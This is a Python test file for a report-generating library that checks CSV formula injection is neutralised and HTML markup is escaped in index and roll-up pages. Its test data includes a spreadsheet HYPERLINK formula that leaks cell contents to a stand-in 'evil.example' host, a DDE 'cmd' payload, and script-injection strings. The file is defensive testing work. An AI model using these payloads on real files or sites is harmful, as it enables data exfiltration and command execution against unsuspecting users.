"""Hostile text in what people open: CSV injection in the batch record, markup
in the index page and the roll-up. Fast: no kernel."""
from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest

from ntm_lib import csvsafe
from ntm_lib.batch.index import write_index
from ntm_lib.batch.record import CSV_COLUMNS, BatchRecord, csv_text, read_record, write_record
from ntm_lib.batch.worker import Outcome
from ntm_lib.record import MEDIA_TYPE, make_payload
from ntm_lib.rollup import sections as S
from ntm_lib.rollup.collect import RollupContext, RollupRow, collect_rollup

ROOT = Path(__file__).resolve().parent.parent

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Nậm Mòn")',
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1+1", "-5", "=", "@",
]
PLAIN = ["Nậm Mòn", "nam-mon", "", "a=1", "x-1", "5", "'=1+1 (already quoted)", "Xã (mô phỏng 3)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert csvsafe.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_as_it_is(text):
    assert csvsafe.neutralise(text) == text


@pytest.mark.parametrize("number", [-5, -2.5, 0, 7, 1e-9, -1e20])
def test_numbers_stay_numbers_even_negative(number):
    assert csvsafe.neutralise(number) == number
    line = csvsafe.csv_text([[number, "x"]]).strip()
    assert line == f'{number!r},"x"'  # unquoted, no leading quote: a spreadsheet reads a number


@pytest.mark.parametrize("value, shown", [(None, ""), (True, "True"), (math.nan, "nan"),
                                          (math.inf, "inf"), (-math.inf, "'-inf")])
def test_none_bool_and_non_finite_are_text(value, shown):
    assert csvsafe.neutralise(value) == shown


def test_every_text_cell_is_quoted_and_inner_quotes_doubled():
    text = csvsafe.csv_text([{"a": '=HYPERLINK("u","n")', "b": "plain", "c": -3}], ["a", "b", "c"])
    assert text == '"a","b","c"\n"\'=HYPERLINK(""u"",""n"")","plain",-3\n'
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=HYPERLINK(\"u\",\"n\")", "plain", "-3"]


def test_a_header_starting_like_a_formula_is_neutralised_too():
    assert csvsafe.csv_text([], ["=x", "ok"]) == '"\'=x","ok"\n'


def test_rows_as_mappings_without_columns_and_as_sequences():
    assert csvsafe.csv_text([{"a": "@x", "b": 1}]) == '"\'@x",1\n'
    assert csvsafe.csv_text([("-x", None)]) == '"\'-x",""\n'


def _hostile_record(value: str) -> BatchRecord:
    failed = Outcome(2023, value, "failed", -1.5, code=value, name=value, run_id=value,
                     reason=value, error={"message": value, "cell": 3, "ename": "E",
                                          "evalue": value},
                     timings={"pdf": -0.25})
    return BatchRecord("20230101T000000Z-cccccc", 2023, "2023-01-01T00:00:00+00:00",
                       outcomes=[failed], seconds=1.0)


@pytest.mark.parametrize("value", FORMULAS[:6] + FORMULAS[8:12])
def test_batch_csv_neutralises_every_text_column(tmp_path, value):
    build = tmp_path / "build"
    paths = write_record(_hostile_record(value), build)
    text = paths["csv"].read_text(encoding="utf-8")
    header, row = list(csv.reader(io.StringIO(text)))
    assert tuple(header) == CSV_COLUMNS
    cells = dict(zip(header, row))
    for column in ("slug", "code", "name", "reason", "run_id", "error"):
        assert cells[column] == "'" + value, column
    assert cells["seconds"] == "-1.5" and cells["pdf_s"] == "-0.25" and cells["cell"] == "3"
    assert ",-1.5," in text and ",-0.25," in text  # negative numbers written as numbers
    assert paths["kept_csv"].read_bytes() == paths["csv"].read_bytes()
    # JSON is data, not a spreadsheet export: it keeps the value as it is.
    assert read_record(build, 2023)["communes"][0]["name"] == value
    assert csv_text(read_record(build, 2023)) == text
    assert not [p for p in paths["csv"].parent.rglob(".*.tmp")]  # no stray temp files


SCRIPT = '<script>alert("x")</script>'


def _run(build: Path, slug: str, name: str, status="ok", error=None,
         run_id="20230101T000000Z-aaaaaa", figures=None, district="Bắc Hà"):
    run_dir = build / "archive" / "2023" / slug / run_id
    (run_dir / "data").mkdir(parents=True)
    outputs = [{"output_type": "display_data", "metadata": {},
                "data": {MEDIA_TYPE: make_payload(k, v)}} for k, v in (figures or {}).items()]
    nb = {"cells": [{"cell_type": "code", "source": "", "metadata": {}, "outputs": outputs,
                     "execution_count": 1}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (run_dir / "data" / "commune_report.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    (run_dir / "data" / "report.html").write_text("<html></html>", encoding="utf-8")
    manifest = {"run_id": run_id, "status": status, "outputs": {"report.html": "x"},
                "commune": {"code": "90001", "name": name, "district_name": district,
                            "district_code": "901", "province_code": "10",
                            "province_name": name},
                "error": error}
    (run_dir / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    if status == "ok":
        link = build / "2023" / slug
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(Path("..") / "archive" / "2023" / slug / run_id)
    return run_dir


@pytest.mark.parametrize("where", ["name", "district", "error", "batch name", "rollup title",
                                   "rollup status", "status"])
def test_index_escapes_markup_from_manifests_and_records(tmp_path, where):
    build = tmp_path / "build"
    hostile = lambda w: SCRIPT if where == w else "ok"  # noqa: E731
    _run(build, "a", hostile("name"), district=hostile("district"))
    _run(build, "b", "B", status="failed", error={"message": hostile("error"), "cell_index": 2})
    record = {"communes": [{"slug": "a", "name": hostile("batch name"), "status": "ran"},
                           {"slug": "b", "status": SCRIPT if where == "status" else "failed",
                            "error": {"message": hostile("error"), "cell": 2}}],
              "rollups": [{"title": hostile("rollup title"), "status": hostile("rollup status"),
                           "links": {'"><script>': "archive/x/report.html"}}]}
    page = write_index(build, 2023, record).read_text(encoding="utf-8")
    assert "<script" not in page
    assert "&lt;script&gt;" in page


def test_roll_up_band_label_and_names_are_escaped():
    row = RollupRow(slug="a", code="90001", name=SCRIPT, district_code="901",
                    district_name=SCRIPT, run_id="r", criteria_met="<b>13</b>", set_size=19,
                    criteria_not_met_numbers=[], band="b1", recognition_at_risk=True,
                    band_key_criteria=["<i>"], advanced_met=None, advanced_set=None,
                    poverty_reduction_points=None, poverty_percent_of_plan=None,
                    links={"HTML": '"><script>x</script>'})
    ctx = RollupContext(2023, "province", "10", SCRIPT, [row],
                        [{"slug": "b", "name": SCRIPT, "error": SCRIPT}], [])
    labels = {"b1": SCRIPT}
    parts = [S.title(ctx), S.commune_table(ctx, labels, {}), S.band_table(ctx, ["b1"], labels),
             S.at_risk(ctx, labels), S.missing(ctx)]
    for part in parts:
        assert "<script" not in part and "<b>" not in part and "<i>" not in part, part
    assert "&lt;script&gt;" in S.commune_table(ctx, labels, {})


def test_roll_up_of_a_commune_named_script_from_its_manifest(tmp_path):
    build = tmp_path / "build"
    _run(build, "a", SCRIPT, figures={"criteria_met": 13, "set_size": 19, "band": "b1"})
    ctx = collect_rollup(build, 2023, province="10", link_base=build / "x")
    html = S.commune_table(ctx, {"b1": "Nhóm 1"}, {})
    assert ctx.rows[0].name == SCRIPT and "<script" not in html and "13/19" in html


@pytest.mark.parametrize("module", ["rollup/collect.py", "rollup/build.py", "batch/record.py",
                                    "batch/index.py"])
def test_one_way_to_hash_and_write(module):
    source = (ROOT / "ntm_lib" / module).read_text(encoding="utf-8")
    assert "hashlib" not in source and "os.replace" not in source and ".tmp" not in source
